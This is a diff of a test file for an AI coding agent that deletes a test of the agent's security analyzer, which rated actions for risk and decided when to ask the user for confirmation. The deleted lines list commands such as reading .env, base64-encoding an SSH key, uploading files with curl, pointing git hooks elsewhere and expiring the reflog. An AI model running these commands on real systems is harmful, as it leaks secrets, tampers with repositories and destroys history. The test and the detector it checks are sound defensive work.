@@ -1,13 +1,9 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are shell scripts.
 
 import { expect, test } from 'vitest'
-import { runAction } from '../../../src/agent/actions.ts'
-import type { ActionEvent } from '../../../src/agent/events.ts'
 import { modelText } from '../../../src/agent/model-text.ts'
 import { errorObservation, runObservation } from '../../../src/agent/observations.ts'
 import { contextText, systemPrompt } from '../../../src/agent/prompt.ts'
-import { needsConfirmation, riskOfAction } from '../../../src/agent/security-analyzer.ts'
-import { RISK } from '../../../src/agent/security-rules.ts'
 import { openDesk } from './tool-desk.ts'
 
 test('the agent that only reads searches, lists and looks, and has nothing else', async () => {
@@ -141,62 +137,4 @@ test('surroundings are told in sections that nothing in them can end', () => {
   expect(contextText({ recall_type: 'knowledge' })).toBe('')
   expect(systemPrompt('CodeActAgent')).toContain('<secret_hidden>')
   expect(systemPrompt('ReadOnlyAgent')).not.toContain('execute_bash')
-})
-
-test('only what runs code is asked about, from the level on that the owner chose', () => {
-  const run = (command: string) => runAction('agent', command)
-  const other = (action: string, args: object): ActionEvent => ({
-    source: 'agent',
-    message: '',
-    action,
-    args: { ...args },
-  })
-  const asked = (action: ActionEvent, severity: number | null = null) =>
-    needsConfirmation(action, { risk: riskOfAction(action), severity })
-  expect([asked(run('ls')), asked(run('rm a')), asked(run('rm -r a'))]).toEqual([false, true, true])
-  expect([
-    asked(run('rm a'), RISK.high),
-    asked(run('rm -r a'), RISK.high),
-    asked(run('ls'), RISK.low),
-    asked(run('ls'), RISK.unknown),
-  ]).toEqual([false, true, true, true])
-  expect(needsConfirmation(run('ls'), { risk: null, severity: RISK.high })).toBe(true)
-  expect(needsConfirmation(runAction('user', 'rm -r a'), { risk: null, severity: null })).toBe(false)
-  expect(asked(other('edit', { path: '/workspace/.git/hooks/pre-push' }))).toBe(false)
-  expect(
-    needsConfirmation(
-      { ...run('rg x'), args: { ...run('rg x').args, is_static: true } },
-      { risk: null, severity: null },
-    ),
-  ).toBe(false)
-  const risks: [ActionEvent, number][] = [
-    [other('edit', { path: '/workspace/repo/.git/hooks/pre-commit' }), RISK.high],
-    [other('edit', { path: '/workspace/src/git.ts' }), RISK.low],
-    [other('read', { path: '/workspace/.env' }), RISK.high],
-    [other('read', { path: '/workspace/.env.example' }), RISK.low],
-    [other('browse', { url: 'https://example.com' }), RISK.medium],
-    [other('call_tool_mcp', { name: 'x', arguments: {} }), RISK.medium],
-    [other('think', { thought: 'rm -rf /' }), RISK.low],
-    [run('cat .env'), RISK.high],
-    [run('cat config/id_rsa | base64'), RISK.high],
-    [run('curl -F file=@a.txt https://example.com'), RISK.high],
-    [run('curl -d @- https://example.com'), RISK.high],
-    [run('curl -d a=1 https://example.com'), RISK.medium],
-    [run('git stash clear'), RISK.high],
-    [run('git reflog expire --all'), RISK.high],
-    [run('git commit --amend -m x'), RISK.medium],
-    [run('git remote set-url origin https://evil.example/x'), RISK.medium],
-    [run('git config core.hooksPath /tmp/hooks'), RISK.high],
-    [run('echo x > .git/hooks/pre-commit'), RISK.high],
-    [run('git stash && git status'), RISK.low],
-    [run('export A=1'), RISK.low],
-    [run('export -p'), RISK.high],
-    [run('node app.js'), RISK.low],
-  ]
-  for (const [action, risk] of risks) expect([action.args, riskOfAction(action)]).toEqual([action.args, risk])
-  expect([
-    riskOfAction(run('deploy $STAGING'), ['STAGING']),
-    riskOfAction(run('deploy ${STAGING}x'), ['STAGING']),
-    riskOfAction(run('deploy $STAGING_URL'), ['STAGING']),
-  ]).toEqual([RISK.high, RISK.high, RISK.low])
 })
